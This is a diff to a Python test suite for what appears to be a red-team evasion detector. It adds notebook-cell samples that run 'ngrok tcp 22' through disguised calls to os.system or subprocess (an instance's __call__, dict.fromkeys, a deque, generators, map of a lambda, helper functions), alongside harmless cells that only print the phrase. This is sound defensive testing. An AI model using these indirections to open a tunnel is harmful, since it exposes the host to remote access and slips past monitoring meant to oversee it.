@@ -413,8 +413,9 @@ def test_a_runner_kept_aside_is_refused_in_its_cell(what, cell):
     taints what holds it (the table, class, namespace, list, loop variable, the function that
     returns it, the name ``globals()``/``setattr(builtins, …)`` binds), and a call through a
     holder that does not resolve to a member known to be something else runs the constant
-    command line it is given; a lambda applied (a class decorator, ``functools.reduce``) is
-    read with its parameters bound to its arguments."""
+    command line it is given; a function applied (a lambda class decorator,
+    ``functools.reduce`` or ``map`` of a lambda, a cell function given a runner) is read with
+    its parameters bound to its arguments."""
     from tests.test_redteam_evasions import _cell_signatures
 
     assert "proxy-known-tool" in _cell_signatures(cell), what
@@ -428,6 +429,8 @@ KEPT_ASIDE_MORE = [
     ("a list made by list()", ["import os\nfs = list([os.system])\nfs[0]('ngrok tcp 22')"]),
     ("a lambda wrapper in a table", ["import os\nd = {'go': lambda c: os.system(c)}\n"
                                      "d['go']('ngrok tcp 22')"]),
+    ("an instance whose __call__ runs", ["import os\nclass R:\n    __call__ = staticmethod(os.system)\n"
+                                         "r = R()\nr('ngrok tcp 22')"]),
     ("getattr of a class", ["import os\nclass R:\n    go = os.system\n"
                             "getattr(R, 'go')('ngrok tcp 22')"]),
     ("a nested table in an earlier cell", ["import os\nd = {'a': {'b': os.system}}",
@@ -442,6 +445,17 @@ KEPT_ASIDE_MORE = [
     ("a comprehension over runners", ["import os\n[f('ngrok tcp 22') for f in [os.system]]"]),
     ("a printer then a runner in a loop", ["import os\nfor f in [print, os.system]:\n"
                                            "    f('ngrok tcp 22')"]),
+    ("an instance attribute set in __init__", ["import os\nclass R:\n    def __init__(self):\n"
+                                                "        self.go = os.system\n"
+                                                "R().go('ngrok tcp 22')"]),
+    ("dict.fromkeys", ["import os\nd = dict.fromkeys(['go'], os.system)\nd['go']('ngrok tcp 22')"]),
+    ("a deque's popleft", ["import os, collections\nq = collections.deque([os.system])\n"
+                           "q.popleft()('ngrok tcp 22')"]),
+    ("next() of a generator", ["import os\ng = (x for x in [os.system])\nnext(g)('ngrok tcp 22')"]),
+    ("map of a lambda over runners", ["import os\n"
+                                      "list(map(lambda f: f('ngrok tcp 22'), [os.system]))"]),
+    ("a cell function given the runner", ["import os\ndef call(f, c):\n    return f(c)\n"
+                                          "call(os.system, 'ngrok tcp 22')"]),
 ]
 
 
@@ -474,6 +488,7 @@ HONEST_KEPT_ASIDE = [
                                             "    def __call__(self, msg):\n        print(msg)\n"
                                             "    def say(self, msg):\n        print(msg)\n"
                                             "Tool()('ngrok tcp 22 is blocked')\n"
+                                            "t = Tool()\nt('ngrok tcp 22 is blocked')\n"
                                             "Tool().say('ngrok tcp 22 is blocked')"),
     ("a class holding a runner made with text", "import subprocess\nclass Job:\n"
                                                 "    run = subprocess.run\n"
@@ -506,6 +521,18 @@ HONEST_KEPT_ASIDE = [
      "import logging, subprocess, torch\nops = {'sh': subprocess.run, 'abs': torch.abs}\n"
      "x = ops['abs'](torch.tensor([-1.0]))\ntorch.save(x, 'ngrok tcp 22.pt')\n"
      "logging.getLogger().warning('ngrok tcp 22 is blocked')"),
+    ("an instance's printer beside its runner", "import subprocess\nclass Job:\n"
+                                                "    def __init__(self):\n"
+                                                "        self.run = subprocess.run\n"
+                                                "        self.log = print\n"
+                                                "Job().log('ngrok tcp 22 is blocked')"),
+    ("a cell function given a runner it only names", "import os\ndef describe(f, text):\n"
+                                                     "    print(f.__name__, text)\n"
+                                                     "describe(os.system, 'ngrok tcp 22 is blocked')"),
+    ("a cell function given a printer", "def call(f, c):\n    return f(c)\n"
+                                        "call(print, 'ngrok tcp 22 is blocked')"),
+    ("map of a lambda that prints", "import os\nlist(map(lambda f: print(f.__name__, "
+                                    "'ngrok tcp 22 is blocked'), [os.system, print]))"),
     ("a runner table used for an honest command", "import subprocess\n"
                                                   "tools = {'smi': subprocess.run}\n"
                                                   "for f in tools.values():\n"
